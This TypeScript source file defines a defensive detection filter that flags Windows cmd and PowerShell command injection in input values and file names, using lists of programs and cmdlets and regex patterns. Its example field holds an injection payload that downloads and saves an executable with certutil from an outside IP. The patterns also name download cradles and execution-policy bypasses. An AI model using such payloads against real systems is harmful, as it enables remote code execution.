import { oneOf, pattern, type Filter } from "../filter.ts";
import { INPUT } from "../places.ts";

const programs =
  oneOf(`cmd powershell pwsh certutil bitsadmin mshta rundll32 regsvr32 wmic cscript wscript msiexec schtasks
  tasklist taskkill systeminfo ipconfig nltest whoami net net1 reg sc netsh icacls cacls attrib vssadmin bcdedit wevtutil
  findstr forfiles fsutil xcopy robocopy diskshadow esentutl installutil msbuild odbcconf regasm regsvcs tracert nslookup
  arp route netstat hostname query quser qwinsta dsquery csvde ldifde runas psexec wusa cipher makecab expand ftp tftp
  type dir del erase copy move ren mkdir rmdir md rd echo start call set ver vol tree more sort cd chdir assoc ftype
  bash curl wget python\\d? perl php node ping`);
const cmdlets =
  oneOf(`add-computer add-content add-member add-type clear-content clear-eventlog clear-history compare-object
  copy-item disable-\\w+ enable-psremoting enter-pssession export-\\w+ find-module foreach-object get-acl get-alias
  get-childitem get-clipboard get-command get-computerinfo get-content get-credential get-eventlog get-filehash get-help get-history get-host
  get-hotfix get-item get-itemproperty get-localgroup get-localuser get-location get-member get-module get-netadapter get-netipaddress
  get-process get-psdrive get-random get-service get-variable get-winevent get-wmiobject get-ciminstance get-aduser get-adcomputer group-object import-module
  install-module install-package invoke-command invoke-expression invoke-item invoke-restmethod invoke-webrequest
  invoke-wmimethod invoke-cimmethod join-path measure-object move-item new-item new-itemproperty new-localuser new-object new-psdrive
  new-pssession new-service new-timespan new-webserviceproxy out-file out-string out-null read-host register-\\w+ remove-item remove-itemproperty rename-item
  resolve-path restart-computer restart-service resume-service save-help select-object select-string send-mailmessage
  set-acl set-alias set-content set-executionpolicy set-item set-itemproperty set-location set-mppreference set-psdebug set-service set-variable
  sort-object split-path start-bitstransfer start-job start-process start-service start-sleep start-transcript stop-computer stop-process
  stop-service suspend-service tee-object test-connection test-netconnection test-path test-wsman trace-command unblock-file update-help
  wait-process where-object write-host write-output write-error write-verbose`);

export const shellWindows: Filter = {
  id: 100_504,
  name: "shell-windows",
  message: "A value holds a command of Windows",
  attackClass: "code-execution",
  score: 5,
  catches:
    "Commands of cmd and PowerShell: separators with a command behind them, cmdlets, downloads that are run at once, variables of the system, carets between letters.",
  letsPass: "The same within sentences or several lines; product names such as PowerShell alone.",
  example: "a & certutil -urlcache -f http://198.51.100.3/a.exe a.exe",
  places: [...INPUT, "file-name"],
  checks: [
    pattern(
      "shell",
      `\\bcmd(?:\\.exe)?\\s*/\\w*[ckrv]\\b|\\b(?:powershell|pwsh)(?:\\.exe)?\\s+(?:-|/|\\w+-\\w+|iex\\b|iwr\\b|&|\\{|\\()|%(?:comspec|systemroot|systemdrive|windir|appdata|temp|tmp|userprofile|programfiles|programdata|path|os|username|computername|homepath)(?::[^%]*)?%|\\$env:\\w+`,
    ),
    pattern("shell", `(?:^|[;|&\`({=\\n]|\\$\\()\\s*(?:\\w+\\s+)?${cmdlets}(?:\\s|$|[;|&)}])`),
    pattern(
      "shell",
      `(?:;|\\|\\|?|&&?|\\n|\\$\\(|\`|\\bdo\\b|\\))\\s*@?\\(?\\s*(?:[a-z]:\\\\?\\S*\\\\|\\S*\\\\)?${programs}(?:\\.(?:exe|com|bat|cmd))?\\s*(?:/\\w+\\b|-\\w+|\\s[a-z]:\\\\|\\s%\\w+|\\s\\\\\\\\|\\s\\*|\\s[\\w.]+\\.(?:ini|txt|exe|dll|config|log|php|asp|aspx)\\b|\\s(?:user|localgroup|group|view|share|start|stop|use|query|add|delete|create|process|service|os|interface|firewall|advfirewall)\\b|\\s+c:)`,
    ),
    pattern(
      "shell",
      `(?:;|\\|\\|?|&&?|\\n)\\s*(?:whoami|systeminfo|tasklist|ipconfig|hostname|netstat|ver|dir|set)\\s*(?:$|[;|&)])`,
    ),
    pattern(
      "shell",
      `(?:;|\\||&|\\n|\\{|\\$\\(|^)\\s*(?:iex|iwr|irm|icm|iwmi|gwmi|gci|gcm|gps|gsv|spps|saps|sajb|nsn|etsn|rsn|ipmo|sls|ogv|gc|ni|ri|si|sal|epal|ipal)\\s+(?:-\\w|\\(|\\$|["']?https?:|\\w+\\.\\w|[/\\\\*.]|\\w+-\\w)|\\biex\\s*\\(|\\|\\s*iex\\b`,
    ),
    pattern(
      "shell",
      `new-object\\s+(?:system\\.)?net\\.|downloadstring\\s*\\(|downloadfile\\s*\\(|downloaddata\\s*\\(|frombase64string\\s*\\(|wscript\\.shell|shell\\.application|scripting\\.filesystemobject|adodb\\.stream|getobject\\s*\\(\\s*script:|\\bstart-process\\b|-encodedcommand\\b|-(?:ep|executionpolicy)\\s+bypass|system\\.diagnostics\\.process|reflection\\.assembly`,
    ),
    pattern(
      "shell",
      `\\bfor\\s+(?:/[dflr]\\s+)?(?:["'(][^)]*\\)?\\s*)?%{1,2}[a-z]\\s+in\\s*\\(|\\bif\\s+(?:/i\\s+)?(?:not\\s+)?(?:exist\\s+\\S+|defined\\s+\\w+|errorlevel\\s+\\d|cmdextversion\\s+\\d|\\S+==\\S+)\\s+\\w+|(?:^|[;|&])\\s*(?:type|dir|del|copy|cd|start|call)\\s+[a-z]:\\\\`,
    ),
    pattern(
      "shell",
      `(?:^|[\\s;|&=(])(?:certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|cscript|wscript|schtasks|msiexec)(?:\\.exe)?\\s+(?:[/-]\\w|\\w+:|https?:|\\\\\\\\|process\\b|os\\b|\\S+\\.(?:dll|exe|hta|js|vbs|sct|msi|xsl))|\\bnet\\s+(?:user|localgroup|share|use|view|accounts)\\s+(?:/|\\w+\\s+(?:/add|\\S+\\s+/add))`,
    ),
  ],
};
